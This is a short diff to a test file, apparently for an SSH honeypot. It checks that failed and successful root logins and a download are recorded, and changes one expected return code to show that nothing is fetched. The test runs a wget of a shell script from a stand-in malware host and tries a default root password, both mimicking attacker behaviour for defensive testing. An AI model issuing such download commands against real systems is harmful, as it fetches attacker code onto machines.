@@ -61,7 +61,7 @@ def test_a_long_talk_is_carried_through_compression_and_new_keys(ssh):
 
 def test_log_ins_and_commands_are_observations(node, ssh):
     assert ssh("true", password="not this one", options=["NumberOfPasswordPrompts=1"]).returncode == 255
-    assert ssh("wget http://malware.example.com/ssh.sh").returncode == 0
+    assert ssh("wget http://malware.example.com/ssh.sh").returncode == 1  # nothing is fetched
     wait_for(node, kind="login", protocol="ssh", username="root", password="not this one", accepted=False)
     wait_for(node, kind="login", protocol="ssh", username="root", password="root", accepted=True)
     wait_for(node, kind="download", url="http://malware.example.com/ssh.sh")
